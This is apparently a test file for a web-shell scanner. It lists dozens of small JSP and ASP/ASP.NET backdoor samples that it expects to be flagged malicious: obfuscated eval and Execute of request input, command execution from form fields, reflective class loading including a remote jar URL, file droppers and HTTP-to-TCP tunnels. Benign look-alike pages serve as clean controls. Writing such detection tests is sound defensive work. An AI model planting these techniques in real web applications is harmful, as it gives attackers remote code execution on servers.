import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';
import { webFlowSource } from './web-source.js';

// JSP and ASP/ASP.NET shell techniques the rules of web.ts and the flow layer of web-source.ts
// are for: request input reaching eval/Execute through a variable, Session or a decoder; a process
// started from a form control; Runtime.exec behind java.beans or reflection with encoded names;
// class loading and code-running sinks other than defineClass; file droppers; tunnels. Every
// sample is written for this test (the "command" is `echo mamori-test` or an eval of a parameter
// named q), and each technique has a look-alike from ordinary pages that must stay clean.
const scanner = createScanner({});
const scan = (file: string, src: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), `/srv/app/${file}`);

const JSCRIPT_PAGE = '<%@ Page Language="JScript" %>\n';
const CS_PAGE = '<%@ Page Language="C#" %>\n';

/** [what, file, source, technique] */
const MALICIOUS: [string, string, string, string][] = [
  // ASP: request input through variables, Session and decoders to eval / Execute
  ['VBScript eval of a variable copied from the request twice', 'a.asp', '<%\nv1 = Request("q")\nv2 = v1\nEval v2\n%>', 'asp-eval'],
  ['Execute of a Session slot the request filled (two-stage)', 'a.asp', '<% If Request("k") <> "" Then Session("k") = Request("k") End If\nIf Session("k") <> "" Then Execute Session("k") %>', 'asp-eval'],
  ['ExecuteGlobal of StrReverse of a request variable', 'a.asp', '<% s = Request.Form("r")\nExecuteGlobal(StrReverse(s)) %>', 'asp-eval'],
  ['Execute of an unescape()d literal', 'a.asp', '<% Execute(unescape("Eval%20Request%28%22q%22%29")) %>', 'asp-eval'],
  ['Execute through a reversing function of its own', 'a.asp', '<%\nFunction Flip(t)\nFlip = StrReverse(t)\nEnd Function\nExecute Flip(")1(tseuqeR lavE")\n%>', 'asp-eval'],
  ['Execute of a Chr(n - k) decoder over %n numbers', 'a.asp', '<%\nExecute(Unshift("%89%138%117%128%52%102%121%133%137%121%135%136%60%54%133%54%61"))\nFunction Unshift(t)\nparts = Split(t, "%")\nFor i = 1 To UBound(parts)\nUnshift = Unshift & Chr(parts(i) - 20)\nNext\nEnd Function\n%>', 'asp-eval'],
  ['Execute of a Caesar-shifted literal', 'a.asp', '<%\nsrc = "Hydo#Uhtxhvw+%t%,"\nExecute Back(src)\nFunction Back(t)\nFor i = 1 To Len(t)\nBack = Back & Chr(Asc(Mid(t, i, 1)) - 3)\nNext\nEnd Function\n%>', 'asp-eval'],
  ['a UTF-7 page (codepage 65000)', 'a.asp', '<%@ codepage=65000 %>\n<% +AEUAdgBhAGwAIABSAGUAcQB1AGUAcwB0ACgAIgBxACIAKQ- %>', 'asp-eval'],
  ['the Request object handed to a ScriptControl', 'a.asp', '<%\nSet sc = Server.CreateObject("MSScript" & "Control.ScriptControl")\nsc.Language = "VBScript"\nsc.AddObject "Request", Request\nsc.ExecuteStatement "Eval Request(" & Chr(34) & "q" & Chr(34) & ")"\n%>', 'asp-eval'],
  ['Execute of the request body after an Xor', 'a.asp', '<%\nk = "0123456789abcdef"\nbody = Request.BinaryRead(Request.TotalBytes)\nFor i = 1 To LenB(body)\nplain = plain & Chr(AscB(MidB(body, i, 1)) Xor Asc(Mid(k, (i And 15) + 1, 1)))\nNext\nExecute(plain)\n%>', 'asp-eval'],
  ['JScript.NET eval of a request variable, "unsafe"', 'a.aspx', `${JSCRIPT_PAGE}<% var t:String = Request.Item["q"];\neval\n(t, "unsafe"); %>`, 'asp-eval'],
  ['JScript eval of a string joined across comments', 'a.aspx', `${JSCRIPT_PAGE}<% var/*-/*-*/c/*-*/=/*-/*-*/"ev"+/*-/*-*/"al(Re"+"quest.Item[0])";\neval(c, "u"+"nsafe"); %>`, 'asp-eval'],
  ['a JScript function that evals its parameter, called on its own result', 'a.aspx', `${JSCRIPT_PAGE}<script runat="server">\nfunction run(s) { var b = eval(s, "unsafe"); return b; }\n</script>\n<% run(run(String("Request.Item[0]"))); %>`, 'asp-eval'],
  ['eval kept in an object, called with request input', 'a.asp', '<script runat="server" language="JScript">\nvar h = {"R": eval};\nh.R(String(Request.Form("q")) + "");\n</script>', 'asp-eval'],
  ['Execute of an Application slot the request filled', 'a.asp', '<% Application("c") = Request.Cookies("c")\nExecute Application("c") %>', 'asp-eval'],
  ['ExecuteGlobal of a request header through a variable', 'a.asp', '<% h = Request.ServerVariables("HTTP_X_C")\nExecuteGlobal h %>', 'asp-eval'],
  ['JScript.NET eval through a VB-style typed copy and a Replace', 'a.aspx', `${JSCRIPT_PAGE}<% var a = Request.Params["q"]; var b = a; eval(b.Replace("~", " "), "unsafe"); %>`, 'asp-eval'],
  ['Execute of a variable holding a decoder of the request', 'a.asp', '<% c = FromB64(Trim(Request.Form("c")))\nExecute c %>', 'asp-eval'],
  // ASP.NET processes and assemblies
  ['Process started with arguments from a TextBox', 'a.aspx', `${CS_PAGE}<script runat="server">\nvoid Go(object s, EventArgs e) {\n var si = new System.Diagnostics.ProcessStartInfo();\n si.FileName = "cmd.exe";\n si.Arguments = "/c " + Cmd.Text;\n System.Diagnostics.Process.Start(si);\n}\n</script>\n<asp:TextBox id="Cmd" runat="server" />`, 'asp-exec'],
  ['ProcessStartInfo from TextBoxes (VB)', 'a.aspx', '<%@ Page Language="VB" %>\n<script runat="server">\nSub Go(s As Object, e As EventArgs)\nDim si As New ProcessStartInfo(Prog.Text)\nsi.Arguments = Args.Text\nDim p As New Process()\np.StartInfo = si\np.Start()\nEnd Sub\n</script>', 'asp-exec'],
  ['cmd.exe /c of a method parameter fed from a TextBox', 'a.aspx', `${CS_PAGE}<script runat="server">\nstring Run(string c) { var si = new System.Diagnostics.ProcessStartInfo(); si.FileName = "cmd.exe"; si.Arguments = "/c " + c; return System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd(); }\nvoid Go(object s, EventArgs e) { Out.Text = Run(Box.Text); }\n</script>`, 'asp-exec'],
  ['a shell fed on its standard input from Request.Form', 'a.aspx', `${CS_PAGE}<% var f = Request.Form;\nvar p = new System.Diagnostics.Process();\np.StartInfo.FileName = "cmd.exe";\np.StartInfo.RedirectStandardInput = true;\np.StartInfo.UseShellExecute = false;\np.Start();\np.StandardInput.WriteLine(f["c"]); %>`, 'asp-exec'],
  ['Assembly.Load by reflection on Base64 request bytes', 'a.ashx', '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler { public bool IsReusable { get { return false; } }\npublic void ProcessRequest(System.Web.HttpContext ctx) { byte[] b = System.Convert.FromBase64String(ctx.Request.Form["k"]);\nvar a = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { b });\na.CreateInstance("T").Equals(ctx); } }\n', 'asp-classloader'],
  ['a command run from an msxsl:script stylesheet', 'a.aspx', `${CS_PAGE}<% string xsl = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='urn:u'><msxsl:script language='JScript' implements-prefix='u'>function f(c){ return new ActiveXObject('WScript.Shell').Exec(c).StdOut.ReadAll(); }</msxsl:script><xsl:template match='/'><xsl:value-of select='u:f(string(.))'/></xsl:template></xsl:stylesheet>";\nvar t = new System.Xml.Xsl.XslCompiledTransform();\nt.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(xsl)), new System.Xml.Xsl.XsltSettings(false, true), null); %>`, 'asp-exec'],
  // droppers and tunnels
  ['FileSystemObject writing request content to a request path', 'a.asp', '<%\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(Request.Form("p"), True)\nf.Write Request.Form("c")\nf.Close\n%>', 'file-writer'],
  ['request content through a variable into an .asp beside the page', 'a.asp', '<%\nbody = Request("c")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(Server.MapPath("note.asp"))\nf.Write(body)\nf.Close\n%>', 'file-writer'],
  ['StreamWriter of a TextBox path, writing another TextBox', 'a.aspx', `${CS_PAGE}<script runat="server">\nvoid Save(object s, EventArgs e) { var fi = new System.IO.FileInfo(PathBox.Text); var w = fi.CreateText(); w.Write(BodyBox.Text); w.Close(); }\n</script>`, 'file-writer'],
  ['a few lines saving an upload into a TextBox folder', 'a.aspx', `${CS_PAGE}<script runat="server">\nvoid Up(object s, EventArgs e) { string n = System.IO.Path.GetFileName(F.FileName); F.SaveAs(Dir.Text + "\\\\" + n); }\n</script>\n<form runat="server"><asp:FileUpload id="F" runat="server" /><asp:TextBox id="Dir" runat="server" /></form>`, 'uploader'],
  ['an HTTP-to-TCP tunnel (ASP.NET)', 'a.aspx', `${CS_PAGE}<% string c = Request.QueryString.Get("c");\nif (c == "CONNECT") { var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp); Session["s"] = s; }\nelse if (c == "DISCONNECT") { Session.Abandon(); }\nelse if (c == "READ") { }\nelse if (c == "FORWARD") { } %>`, 'tunnel'],
  // JSP: exec behind java.beans, reflection with encoded names, private launchers
  ['Runtime.exec through java.beans.Expression, its name joined', 'a.jsp', '<% java.beans.Expression x = new java.beans.Expression(Runtime.getRuntime(), "ex" + "ec", new Object[]{ request.getParameter("c") }); Process p = (Process) x.getValue(); %>', 'jsp-exec'],
  ['Runtime.exec through java.beans.Statement', 'a.jsp', '<% String c = request.getParameter("c"); new java.beans.Statement(Runtime.getRuntime(), "exec", new Object[]{ c }).execute(); %>', 'jsp-exec'],
  ['reflection with names written as byte arrays', 'a.jsp', '<% Class r = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101})); Object rt = r.getMethod(new String(new byte[]{103,101,116,82,117,110,116,105,109,101})).invoke(null); r.getMethod(new String(new byte[]{101,120,101,99}), String.class).invoke(rt, request.getParameter("c")); %>', 'jsp-exec'],
  ['ProcessBuilder by reflection, names in Base64', 'a.jsp', '<% Class pb = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy"))); Object b = pb.getConstructor(String[].class).newInstance((Object) new String[]{ request.getParameter("c") }); pb.getMethod(new String(java.util.Base64.getDecoder().decode("c3RhcnQ="))).invoke(b); %>', 'jsp-exec'],
  ['reflection with names shifted by a function of the page', 'a.jsp', '<%! String un(String s) { StringBuilder b = new StringBuilder(); for (char ch : s.toCharArray()) b.append((char) (ch - 1)); return b.toString(); } %><% Class r = Class.forName(un("kbwb/mboh/Svoujnf")); Object rt = r.getMethod(un("hfuSvoujnf")).invoke(null); r.getMethod(un("fyfd"), String.class).invoke(rt, request.getParameter("c")); %>', 'jsp-exec'],
  ['reflection with names reversed by a StringBuilder', 'a.jsp', '<% Class r = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString()); java.lang.reflect.Method m = r.getMethod(new StringBuilder("cexe").reverse().toString(), String.class); m.invoke(r.getMethod("getRuntime").invoke(null), request.getParameter("c")); %>', 'jsp-exec'],
  ['reflection with names from DatatypeConverter.parseBase64Binary', 'a.jsp', '<% Class r = Class.forName(new String(javax.xml.bind.DatatypeConverter.parseBase64Binary("amF2YS5sYW5nLlJ1bnRpbWU="))); Object rt = r.getMethod("getRuntime").invoke(null); r.getMethod("exec", String.class).invoke(rt, request.getParameter("c")); %>', 'jsp-exec'],
  ['the private ProcessImpl.start', 'a.jsp', '<% Class c = Class.forName("java.lang.ProcessImpl"); java.lang.reflect.Method m = c.getDeclaredMethod("start", String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class); m.setAccessible(true); m.invoke(null, new String[]{ request.getParameter("c") }, null, ".", null, false); %>', 'jsp-exec'],
  ['a command read through pageContext.getRequest()', 'a.jspx', '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet><![CDATA[ String c = pageContext.getRequest().getParameter("c"); Process p = Runtime.getRuntime().exec(c); ]]></jsp:scriptlet></jsp:root>', 'jsp-exec'],
  ['a servlet of the page reading its own request parameter', 'a.jsp', '<%! public class S extends javax.servlet.http.HttpServlet { protected void service(javax.servlet.http.HttpServletRequest q, javax.servlet.http.HttpServletResponse r) throws java.io.IOException { Runtime.getRuntime().exec(q.getParameter("c")); } } %>', 'jsp-exec'],
  // JSP: class loading and other code-running sinks
  ['a BCEL-encoded class loaded', 'a.jsp', '<% new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass("$$BCEL$$$l$8b$I$A$A$A$A$A$A$A").getConstructor(String.class).newInstance(request.getParameter("c")); %>', 'jsp-classloader'],
  ['a class from a remote jar', 'a.jsp', '<% new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL("http://192.0.2.1/x.jar") }).loadClass("X").getConstructor(String.class).newInstance(request.getParameter("c")); %>', 'jsp-classloader'],
  ['TemplatesImpl bytecodes from the request', 'a.jsp', '<%@ page import="com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl" %><% TemplatesImpl t = new TemplatesImpl(); java.lang.reflect.Field f = t.getClass().getDeclaredField("_bytecodes"); f.setAccessible(true); f.set(t, new byte[][]{ java.util.Base64.getDecoder().decode(request.getParameter("b")) }); t.getOutputProperties(); %>', 'jsp-classloader'],
  ['Nashorn ScriptLoader.installClass', 'a.jsp', '<% Class c = Class.forName("jdk.nashorn.internal.runtime.ScriptLoader"); java.lang.reflect.Method m = c.getDeclaredMethod("installClass", String.class, byte[].class, java.security.CodeSource.class); m.setAccessible(true); byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("b")); %>', 'jsp-classloader'],
  ['a Nashorn engine evaluating the request body', 'a.jsp', '<% javax.script.ScriptEngine e = new jdk.nashorn.api.scripting.NashornScriptEngineFactory().getScriptEngine(); e.eval(request.getReader()); %>', 'jsp-eval'],
  ['GroovyShell evaluating a parameter', 'a.jsp', '<% Object r = new groovy.lang.GroovyShell().evaluate(request.getParameter("c")); %>', 'jsp-eval'],
  ['an EL processor evaluating a parameter', 'a.jsp', '<% Object r = new jakarta.el.ELProcessor().eval(request.getParameter("c")); %>', 'jsp-eval'],
  ['XMLDecoder over a request parameter', 'a.jsp', '<% String x = request.getParameter("x"); java.beans.XMLDecoder d = new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(x.getBytes())); d.readObject(); %>', 'jsp-eval'],
  ['a stylesheet from the request body run over a constant document', 'a.jsp', '<% java.io.BufferedReader br = request.getReader(); StringBuilder sb = new StringBuilder(); String l; while ((l = br.readLine()) != null) sb.append(l); javax.xml.transform.Transformer t = javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform.stream.StreamSource(new java.io.StringReader(sb.toString()))); t.transform(new javax.xml.transform.stream.StreamSource(new java.io.StringReader("<a/>")), new javax.xml.transform.stream.StreamResult(out)); %>', 'jsp-eval'],
  ['a JNDI name from the request', 'a.jsp', '<% System.setProperty("com.sun.jndi.ldap.object.trustURLCodebase", "true"); com.sun.rowset.JdbcRowSetImpl r = new com.sun.rowset.JdbcRowSetImpl(); r.setDataSourceName(request.getParameter("n")); r.setAutoCommit(true); %>', 'jsp-jndi'],
  ['JShell evaluating a parameter', 'a.jsp', '<%= jdk.jshell.JShell.create().eval(request.getParameter("c")).get(0).value() %>', 'jsp-eval'],
  ['a request-named file written with request content (through variables)', 'a.jsp', '<% String p = request.getParameter("p"); String b = request.getParameter("b"); java.io.PrintWriter w = new java.io.PrintWriter(new java.io.File(p)); w.println(b); w.close(); %>', 'file-writer'],
  ['an HTTP-to-TCP tunnel (JSP)', 'a.jsp', '<% String c = request.getHeader("X-C"); if ("CONNECT".equals(c)) { java.nio.channels.SocketChannel ch = java.nio.channels.SocketChannel.open(); session.setAttribute("ch", ch); } else if ("DISCONNECT".equals(c)) { session.invalidate(); } else if ("READ".equals(c)) { } else if ("FORWARD".equals(c)) { } %>', 'tunnel'],
];

describe('scan: JSP and ASP techniques (web-techniques)', () => {
  for (const [name, file, src, technique] of MALICIOUS) {
    it(name, () => {
      const r = scan(file, src);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.technique === technique), `technique ${technique}: ${JSON.stringify(r.findings.map((f) => f.technique))}`);
    });
  }
});

describe('scan: the less certain ones are suspicious', () => {
  const SUSPICIOUS: [string, string, string][] = [
    ['a Script Encoder page', 'a.asp', '<%@ LANGUAGE = "VBScript.Encode" %>\n<%#@~^CAAAAA==mamori-test^#~@%>'],
  ];
  for (const [name, file, src] of SUSPICIOUS) it(name, () => assert.equal(scan(file, src).verdict, 'suspicious', JSON.stringify(scan(file, src).findings)));
});

// (suspicious until session 34; malicious since, as a real uploader of this shape in held-out set H4 is: a small page
// storing the client's file under the client's name in its own folder, where a page it is sent is served and run)
describe('scan: an upload saved under its client name beside the page', () => {
  it('is malicious in a small page', () => {
    const src = `${CS_PAGE}<% var up = Request.Files[0]; var here = new System.IO.FileInfo(Request.PhysicalPath); using (var fs = new System.IO.FileStream(System.IO.Path.Combine(here.DirectoryName, System.IO.Path.GetFileName(up.FileName)), System.IO.FileMode.Create)) { up.InputStream.CopyTo(fs); } %>`;
    assert.equal(scan('a.aspx', src).verdict, 'malicious', JSON.stringify(scan('a.aspx', src).findings));
  });
});

describe('scan: ordinary pages shaped like those techniques stay clean', () => {
  const CLEAN: [string, string, string][] = [
    ['a query with a request variable run by conn.Execute', 'a.asp', '<%\nid = Request("id")\nSet rs = conn.Execute("SELECT name FROM t WHERE id=" & CLng(id))\nResponse.Write Server.HtmlEncode(rs("name"))\n%>'],
    ['a request value reversed for display', 'a.asp', '<% name = Request.Form("n")\nResponse.Write Server.HtmlEncode(StrReverse(name)) %>'],
    ['a visit log written with FileSystemObject', 'a.asp', '<%\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.OpenTextFile(Server.MapPath("log.txt"), 8, True)\nf.WriteLine Request.ServerVariables("REMOTE_ADDR") & " " & Request("page")\nf.Close\n%>'],
    ['a Chr(Asc(c) + 1) checksum, not executed', 'a.asp', '<%\ns = Request("s")\nFor i = 1 To Len(s)\nh = h & Chr(Asc(Mid(s, i, 1)) + 1)\nNext\nResponse.Write Server.HtmlEncode(h)\n%>'],
    ['data binding with Eval', 'a.aspx', `${CS_PAGE}<asp:Repeater id="R" runat="server"><ItemTemplate><%# Eval("Name") %> <%# DataBinder.Eval(Container.DataItem, "Price") %></ItemTemplate></asp:Repeater><% var q = Request.QueryString["q"]; %>`],
    ['a fixed ping with a TextBox shown elsewhere', 'a.aspx', `${CS_PAGE}<script runat="server">\nvoid Go(object s, EventArgs e) { var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 localhost")); Name.Text = Server.HtmlEncode(Box.Text); }\n</script>`],
    ['an upload saved under a new name in an uploads folder', 'a.aspx', `${CS_PAGE}<script runat="server">\nvoid Up(object s, EventArgs e) { F.SaveAs(Server.MapPath("~/uploads/") + System.Guid.NewGuid() + ".png"); }\n</script>`],
    ['client-side JScript with eval in an ASP.NET page', 'a.aspx', `${CS_PAGE}<script type="text/javascript">var cfg = eval("(" + document.getElementById("c").value + ")");</script><% var n = Request["n"]; %>`],
    ['XMLDecoder of a configuration file', 'a.jsp', '<% java.beans.XMLDecoder d = new java.beans.XMLDecoder(new java.io.FileInputStream(application.getRealPath("/WEB-INF/c.xml")));\nObject cfg = d.readObject();\nString k = request.getParameter("k"); %>'],
    ['a fixed stylesheet over the request body', 'a.jsp', '<% javax.xml.transform.Transformer t = javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform.stream.StreamSource(application.getRealPath("/WEB-INF/v.xsl"))); t.transform(new javax.xml.transform.stream.StreamSource(request.getInputStream()), new javax.xml.transform.stream.StreamResult(out)); %>'],
    ['a JDBC driver named by configuration', 'a.jsp', '<% Class d = Class.forName(getInitParameter("driver")); Object v = d.getMethod("toString").invoke(d.getConstructor().newInstance()); out.println(request.getParameter("who")); %>'],
    ['an upload written under a fixed name, the form echoed', 'a.jsp', '<% java.io.File f = new java.io.File(application.getRealPath("/upload"), "avatar.png"); java.io.FileOutputStream o = new java.io.FileOutputStream(f); o.write(new byte[0]); o.close(); out.println(request.getParameter("name")); %>'],
    ['a math Expression class of the app beside Runtime memory figures', 'a.jsp', '<%@ page import="com.example.calc.Expression" %><% Expression e = new Expression(request.getParameter("f")); Statement s = conn.createStatement(); s.execute("SELECT 1"); out.println(e.value() + " " + Runtime.getRuntime().freeMemory()); %>'],
    ['a JNDI data source named by the request (no remote codebase)', 'a.jsp', '<% javax.sql.rowset.JdbcRowSet r = javax.sql.rowset.RowSetProvider.newFactory().createJdbcRowSet(); r.setDataSourceName("java:comp/env/" + request.getParameter("ds")); %>'],
    ['a ping tool: fixed program, host from a TextBox', 'a.aspx', `${CS_PAGE}<script runat="server">\nvoid Go(object s, EventArgs e) { var si = new System.Diagnostics.ProcessStartInfo(); si.FileName = "ping.exe"; si.Arguments = "-n 1 " + Host.Text; System.Diagnostics.Process.Start(si); }\n</script>`],
    ['a template run by Execute, with Chr(13) + Chr(10)', 'a.asp', '<%\nExecute(LoadTemplate("home"))\nResponse.Write "a" + Chr(13) + Chr(10)\n%>'],
    ['a script engine running a fixed script, a parameter printed', 'a.jsp', '<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.put("n", 2); Object r = e.eval("n * 21"); out.println(r + " " + org.owasp.encoder.Encode.forHtml(request.getParameter("who"))); %>'],
    ['a trimmed request value used in a query and a method named Execute', 'a.asp', '<% id = CLng(Trim(Request("id")))\nSet rs = cmd.Execute(, Array(id))\nResponse.Write Server.HtmlEncode(id) %>'],
    ['a request parameter copied into variables and printed', 'a.jsp', '<% String who = request.getParameter("who"); String shown = who; out.println(shown == null ? "" : shown.replace("<", "&lt;")); %>'],
  ];
  for (const [name, file, src] of CLEAN) it(name, () => assert.equal(scan(file, src).verdict, 'clean', JSON.stringify(scan(file, src).findings)));
});

describe('web-source: the flow layer', () => {
  it('replaces a variable holding request input where it is read, not where it is set', () => {
    const out = webFlowSource('asp', 'asp', '<% x1 = Request("h")\nx2 = x1\neval x2 %>')!;
    assert.match(out, /eval Request\("h"\)/);
    assert.match(out, /x1 = Request\("h"\)/);
  });
  it('decodes names built from bytes and Base64 literals in JSP', () => {
    const out = webFlowSource('jsp', 'jsp', '<% Class.forName(new String(new byte[]{106,97,118,97})); x(new String(java.util.Base64.getDecoder().decode("c3RhcnQ="))); %>')!;
    assert.match(out, /Class\.forName\("java"\)/);
    assert.match(out, /x\("start"\)/);
  });
  it('leaves a page with nothing to follow alone', () => {
    assert.equal(webFlowSource('asp', 'asp', '<% Response.Write "hello" %>'), undefined);
  });
});
